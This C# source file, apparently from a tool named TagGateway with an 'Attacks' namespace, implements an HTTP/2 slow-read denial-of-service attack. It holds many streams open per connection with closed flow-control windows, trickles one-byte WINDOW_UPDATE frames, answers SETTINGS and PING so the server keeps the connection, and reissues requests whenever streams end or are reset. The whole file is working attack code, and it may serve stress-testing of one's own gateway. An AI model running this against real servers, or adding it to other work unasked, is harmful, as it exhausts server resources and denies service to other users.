using System.Buffers;
using System.Buffers.Binary;
using System.Collections.Concurrent;
using TagGateway.Attacks.Connecting;
using TagGateway.Attacks.Http2;

namespace TagGateway.Attacks.Crowds;

/// <summary>One HTTP/2 connection whose streams' windows stay closed, or are opened byte by byte. What the connection itself needs is done: SETTINGS and PING
/// are confirmed, so that the server has no reason to end it.</summary>
internal sealed class UnreadHttp2(Target target, UnreadOptions options, UnreadCounts counts, Http2Connection connection)
{
    private readonly ConcurrentDictionary<int, bool> _open = new();

    public static async Task HoldAsync(Target target, UnreadOptions options, UnreadCounts counts, CrowdSeat seat, CancellationToken stop)
    {
        await using var connection = await Http2Connection.OpenAsync(target, seat.Number, options.WindowBytes, cancellation: stop);
        await new UnreadHttp2(target, options, counts, connection).HoldAsync(seat, stop);
    }

    private async Task HoldAsync(CrowdSeat seat, CancellationToken stop)
    {
        for (var number = 0; number < options.Streams; number++)
        {
            await AskAsync((seat.Number * options.Streams) + number, stop);
        }

        seat.Open();
        using var ended = CancellationTokenSource.CreateLinkedTokenSource(stop);
        var trickle = TrickleAsync(ended.Token);
        try
        {
            while (await connection.ReadAsync(stop) is { } frame)
            {
                await TakeAsync(frame, stop);
            }

            counts.AddReset(_open.Count);
        }
        finally
        {
            await ended.CancelAsync();
            await trickle;
        }
    }

    private async Task AskAsync(int number, CancellationToken stop)
    {
        var path = RequestTemplate.Fill(options.Paths[number % options.Paths.Count], number);
        var streamId = await connection.RequestAsync(HeaderBlock.Request("GET", target, path), endStream: true, stop);
        _open[streamId] = true;
        counts.AddAsked();
    }

    private async Task TakeAsync(Frame frame, CancellationToken stop)
    {
        switch (frame.Type)
        {
            case FrameType.Headers:
                counts.AddAnswered();
                break;
            case FrameType.Data:
                counts.AddBody(frame.Payload.Length);
                break;
            case FrameType.GoAway:
                counts.AddCode("GOAWAY", BinaryPrimitives.ReadUInt32BigEndian(frame.Payload.Span[4..]));
                return;
            case FrameType.ResetStream when _open.TryRemove(frame.StreamId, out _):
                counts.AddReset(1);
                counts.AddCode("RST_STREAM", BinaryPrimitives.ReadUInt32BigEndian(frame.Payload.Span));
                await AskAgainAsync(frame.StreamId, stop);
                return;
            default:
                return;
        }

        if (frame.Flags.HasFlag(FrameFlags.EndStream) && _open.TryRemove(frame.StreamId, out _))
        {
            counts.AddCompleted();
            await AskAgainAsync(frame.StreamId, stop);
        }
    }

    private Task AskAgainAsync(int number, CancellationToken stop) => options.Again ? AskAsync(number, stop) : Task.CompletedTask;

    private async Task TrickleAsync(CancellationToken ended)
    {
        if (options.Trickle is not { } interval)
        {
            return;
        }

        using var timer = new PeriodicTimer(interval);
        var frames = new ArrayBufferWriter<byte>();
        try
        {
            while (await timer.WaitForNextTickAsync(ended))
            {
                frames.ResetWrittenCount();
                foreach (var streamId in _open.Keys)
                {
                    frames.WriteNumber(FrameType.WindowUpdate, streamId, 1);
                    frames.WriteNumber(FrameType.WindowUpdate, 0, 1);
                }

                await connection.WriteAsync(frames.WrittenMemory, ended);
            }
        }
        catch (Exception error) when (error is OperationCanceledException or IOException or ObjectDisposedException)
        {
            // The end of the attack, or of the connection.
        }
    }
}
